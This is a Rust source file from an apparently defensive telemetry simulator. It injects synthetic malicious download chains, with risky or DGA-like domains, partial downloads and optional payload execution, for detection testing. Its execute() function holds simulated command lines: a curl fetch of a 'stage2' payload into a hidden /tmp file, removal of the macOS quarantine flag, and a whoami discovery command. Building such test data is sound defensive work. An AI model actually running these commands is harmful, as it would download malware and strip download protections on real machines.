//! Injected true chains (click URL -> untrusted egress -> partial -> rename into Downloads) and
//! the risky domain names they and the benign risky visits use.

use clickchain_adapters::{AttrChange, EventKind, FileOp, Origin, Os, ProcKey};

use super::catalog::{BAD_TLDS, LURES, WORDS};
use super::host::HostSim;
use super::{Chain, ChainVia};
use crate::rng::Rng;

/// A risky registrable domain: a suspicious TLD (`invoice-portal42.top`), or a DGA-like label
/// on an ordinary TLD (`x7kq2m9vbn4t.com`: high entropy and many digits reach the risk
/// threshold). Both are untrusted for the default configuration whatever the warm-up.
pub(crate) fn risky_name(rng: &mut Rng, malicious: bool) -> String {
    if rng.chance(if malicious { 0.2 } else { 0.3 }) {
        const CHARS: &[u8] = b"bcdfghjklmnpqrstvwxz0123456789";
        loop {
            let label: String = (0..12).map(|_| *rng.pick(CHARS) as char).collect();
            let digits = label.bytes().filter(u8::is_ascii_digit).count();
            let mut distinct: Vec<u8> = label.bytes().collect();
            distinct.sort_unstable();
            distinct.dedup();
            if (4..=8).contains(&digits) && distinct.len() >= 9 {
                return format!("{label}.{}", rng.pick(&["com", "net", "info", "org"]));
            }
        }
    }
    let (a, b) = (rng.pick(WORDS), rng.pick(WORDS));
    format!("{a}-{b}{}.{}", rng.below(100), rng.pick(BAD_TLDS))
}

/// The chain events kept for the label, as host sequence numbers (mapped to stream indices later).
pub(crate) struct Injected {
    pub chain: Chain,
    pub seqs: Vec<u32>,
}

/// Injects one true chain starting at `t`. Windows and Linux alternate between a link clicked in
/// the mail app (a new browser process with the URL, via xdg-open on Linux) and a URL opened in
/// the running browser; macOS opens it in the running browser. With probability `follow_on`
/// the payload is executed afterwards; on macOS one chain in five never gets the quarantine flag.
pub(crate) fn inject(h: &mut HostSim, t: i64, follow_on: f64) -> Injected {
    let domain = risky_name(&mut h.rng, true);
    let n = h.next_n();
    let lure = h.rng.pick(LURES);
    let ext = h.rng.pick(h.cat.payload_ext);
    let file = format!("{lure}_{n}.{ext}");
    let url = format!("https://{domain}/view?id={n}");
    let via = if h.os != Os::Macos && h.rng.chance(0.5) { ChainVia::MailLink } else { ChainVia::UrlOpen };
    let mut seqs = Vec::new();
    let b = h.browser;
    let (root, root_image, proc, net) = match via {
        ChainVia::MailLink => {
            let life = Some(t + 200_000 + h.rng.range(0, 300_000));
            let mail = h.mail.clone();
            let mut parent = mail.clone();
            let cmd = match h.cat.url_handler {
                Some(handler) => {
                    let end = Some(t + 600);
                    parent = h.spawn(t, end, &mail, handler, Some(format!("xdg-open {url}")), false);
                    format!("{} {url}", b.image)
                }
                None => format!("\"{}\" --single-argument {url}", b.image),
            };
            let first = h.out.len() as u32;
            let proc = h.spawn(t + 200, life, &parent, b.image, Some(cmd), false);
            seqs.push(first);
            let net = h.spawn(t + 500, life, &proc, b.child, Some(b.net_cmd.to_owned()), false);
            (mail, h.cat.mail, proc, net)
        }
        ChainVia::UrlOpen => {
            let root = h.root.clone();
            seqs.push(h.emit(t + 200, EventKind::UrlOpen { proc: root.clone(), url: url.clone() }));
            (root.clone(), b.image, root, h.net.clone())
        }
    };
    seqs.push(h.out.len() as u32);
    let ip = h.dns(t + 800, Some(proc.clone()), &domain);
    let egress_ms = t + 1_000;
    seqs.push(h.out.len() as u32);
    h.connect(egress_ms, &net, ip, None);
    let dl = format!("dl.{domain}");
    let gap = h.rng.range(2_000, 40_000);
    let ip = h.dns(egress_ms + gap, Some(proc.clone()), &dl);
    h.connect(egress_ms + gap + 200, &net, ip, None);

    // Partial download, then the rename into Downloads with the origin each OS records.
    let start = egress_ms + gap + 1_000;
    let final_path = h.downloads(&file);
    let partial = format!("{final_path}{}", b.partial);
    seqs.push(h.write(start, &proc, partial.clone(), FileOp::Create, None));
    let with_url = h.rng.chance(0.8);
    let mut origin = Origin {
        url: with_url.then(|| format!("https://{dl}/files/{file}")),
        referrer: with_url.then(|| url.clone()),
        ..Origin::default()
    };
    let quarantined = h.os == Os::Macos && h.rng.chance(0.8);
    match h.os {
        Os::Windows => origin.zone = Some(3),
        Os::Macos if quarantined => {
            h.attr(start + 60, &proc, partial.clone(), AttrChange::QuarantineSet);
        }
        _ => {}
    }
    let write_ms = start + h.rng.range(1_500, 20_000);
    let origin = (origin != Origin::default()).then_some(origin);
    seqs.push(h.write(write_ms, &proc, final_path.clone(), FileOp::Rename { from: partial }, origin));

    let executed = h.rng.chance(follow_on);
    if executed {
        let at = write_ms + h.rng.range(20_000, 120_000);
        execute(h, at, &final_path);
    }
    let chain = Chain {
        host: h.name.clone(),
        os: h.os,
        via,
        root,
        root_image: h.path(root_image),
        url,
        domain,
        final_path,
        click_ms: t + 200,
        egress_ms,
        write_ms,
        executed,
        quarantined: h.os != Os::Macos || quarantined,
        events: Vec::new(),
    };
    Injected { chain, seqs }
}

/// The user runs the payload (follow-on activity): it starts a discovery command.
fn execute(h: &mut HostSim, t: i64, path: &str) {
    let (parent, image, cmd, child, child_cmd): (ProcKey, String, String, &str, &str) = match h.os {
        Os::Windows => (
            h.shell.clone(),
            path.to_owned(),
            format!("\"{path}\""),
            r"C:\Windows\System32\cmd.exe",
            "cmd.exe /c whoami /all",
        ),
        Os::Linux => (
            h.terminal.clone(),
            "/usr/bin/bash".to_owned(),
            format!("bash {path}"),
            "/usr/bin/curl",
            "curl -s http://203.0.113.70/stage2 -o /tmp/.s2",
        ),
        Os::Macos => (
            h.shell.clone(),
            "/usr/bin/hdiutil".to_owned(),
            format!("hdiutil attach {path}"),
            "/usr/bin/xattr",
            "xattr -d com.apple.quarantine /Volumes/Installer/Installer.app",
        ),
    };
    let p = h.spawn(t, Some(t + 30_000), &parent, &image, Some(cmd), false);
    h.spawn(t + 1_000, Some(t + 5_000), &p, child, Some(child_cmd.to_owned()), false);
}
